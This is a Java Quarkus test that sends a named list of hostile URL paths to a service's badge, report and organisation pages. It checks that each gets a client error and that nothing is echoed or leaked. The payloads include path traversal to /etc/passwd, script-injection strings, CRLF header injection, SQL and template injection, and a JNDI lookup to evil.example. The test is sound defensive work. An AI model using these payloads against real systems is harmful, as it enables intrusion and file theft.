package dev.bpkeeper.edge;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bpkeeper.testing.DynamoDbLocalResource;
import dev.bpkeeper.testing.FakeGitHubResource;
import dev.bpkeeper.testing.LogCapture;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The badge, report and organisation pages against hostile paths: traversal (plain, encoded, double-encoded,
 * backslashes), overlong names, markup, header and template injection, control characters. Every one gets a
 * client error or "nothing here", never a 5xx, never an unhandled exception, never its markup echoed unescaped and
 * never a header of its own making. Sent over a raw socket, so that the path arrives exactly as written.
 */
@QuarkusTest
@WithTestResource(value = DynamoDbLocalResource.class, scope = TestResourceScope.MATCHING_RESOURCES)
@WithTestResource(value = FakeGitHubResource.class, scope = TestResourceScope.MATCHING_RESOURCES)
class HostileReadPathTest {
    private static final String[] PREFIXES = {"/badge/", "/report/", "/org/"};
    private static final String[] ENDINGS = {"", ".svg", ".json"};

    @TestHTTPResource("/")
    URI root;

    /** The hostile middles, named; each is tried under every page and ending. */
    static Map<String, String> hostileNames() {
        Map<String, String> names = new LinkedHashMap<>();
        names.put("dot-dot", "../../../etc/passwd");
        names.put("dot-dot after a name", "acme/../../etc/passwd");
        names.put("encoded dot-dot", "%2e%2e/%2e%2e/%2e%2e/etc/passwd");
        names.put("encoded slashes", "acme%2f..%2f..%2fetc%2fpasswd");
        names.put("double-encoded", "%252e%252e%252f%252e%252e%252fetc%252fpasswd");
        names.put("backslashes", "..\\..\\windows\\win.ini");
        names.put("overlong UTF-8 dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd");
        names.put("NUL byte", "acme%00/widget");
        names.put("overlong owner", "a".repeat(5_000) + "/widget");
        names.put("overlong repository", "acme/" + "w".repeat(5_000));
        names.put("many segments", "a/".repeat(500) + "b");
        names.put("markup", "acme/%3Cscript%3Ealert(1)%3C%2Fscript%3E");
        names.put("markup in the owner", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E/widget");
        names.put("quotes", "acme/%22%27%3E%3Csvg%20onload%3Dalert(1)%3E");
        names.put("header injection", "acme/widget%0d%0aSet-Cookie:%20stolen=1");
        names.put("template injection", "acme/$%7B7*7%7D%7B%7B7*7%7D%7D");
        names.put("JNDI lookup", "acme/$%7Bjndi:ldap:%2F%2Fevil.example%2Fx%7D");
        names.put("SQL", "acme/widget'%20OR%20'1'='1");
        names.put("DynamoDB key separator", "acme/widget%23latest");
        names.put("percent alone", "acme/%");
        names.put("empty segments", "//");
        names.put("unicode look-alikes", "%D0%B0cme/w%D1%96dget");
        names.put("right-to-left override", "acme/%E2%80%AEgdiw");
        return names;
    }

    @Test
    void everyHostilePathGetsAClientErrorOrNothingHereAndNeverEchoesItsMarkupOrSetsAHeader() throws IOException {
        List<String> problems = new ArrayList<>();
        Map<Integer, Integer> statuses = new LinkedHashMap<>();
        int sent = 0;
        try (LogCapture logs = LogCapture.start()) {
            for (Map.Entry<String, String> name : hostileNames().entrySet()) {
                for (String prefix : PREFIXES) {
                    for (String ending : ENDINGS) {
                        String path = prefix + name.getValue() + ending;
                        RawAnswer answer = get(path);
                        sent++;
                        statuses.merge(answer.status(), 1, Integer::sum);
                        String what = name.getKey() + " " + abbreviate(path) + " → " + answer.status();
                        if (answer.status() >= 500 || answer.status() < 200) {
                            problems.add(what + ": server error");
                        }
                        if (answer.status() == 200) {
                            problems.add(what + ": answered as if it named a repository");
                        }
                        String body = answer.body().toLowerCase(java.util.Locale.ROOT);
                        if (body.contains("<script") || body.contains("<img") || body.contains("onload=")
                                || body.contains("onerror=")) {
                            problems.add(what + ": markup echoed: " + abbreviate(answer.body()));
                        }
                        if (answer.head().toLowerCase(java.util.Locale.ROOT).contains("set-cookie")) {
                            problems.add(what + ": a header of the request's making");
                        }
                        if (body.contains("root:") || body.contains("[fonts]")) {
                            problems.add(what + ": a file from outside the app");
                        }
                    }
                }
            }
            assertThat(logs.lines()).as("log lines with an exception:\n%s", logs.text())
                    .noneMatch(LogCapture.Line::hasException);
        }
        assertThat(problems).isEmpty();
        System.out.printf("HOSTILE FIGURE | %d hostile read paths, by status %s%n", sent, statuses);
    }

    @Test
    void anOverlongRequestLineIsRefusedByTheHttpLayerNotTheApp() throws IOException {
        RawAnswer answer = get("/badge/" + "a".repeat(20_000) + "/widget.svg");

        assertThat(answer.status()).isBetween(400, 499);
    }

    private record RawAnswer(int status, String head, String body) {
    }

    /** One GET over a fresh socket, the path sent byte for byte as given. */
    private RawAnswer get(String path) throws IOException {
        try (Socket socket = new Socket(root.getHost(), root.getPort())) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(("GET " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                    .getBytes(StandardCharsets.ISO_8859_1));
            out.flush();
            InputStream in = socket.getInputStream();
            String all = new String(in.readAllBytes(), StandardCharsets.UTF_8);
            int split = all.indexOf("\r\n\r\n");
            String head = split < 0 ? all : all.substring(0, split);
            String body = split < 0 ? "" : all.substring(split + 4);
            String[] statusLine = head.split("\r\n", 2)[0].split(" ");
            int status = statusLine.length > 1 ? Integer.parseInt(statusLine[1]) : -1;
            return new RawAnswer(status, head, body);
        }
    }

    private static String abbreviate(String text) {
        return text.length() > 80 ? text.substring(0, 80) + "…(" + text.length() + ")" : text;
    }
}
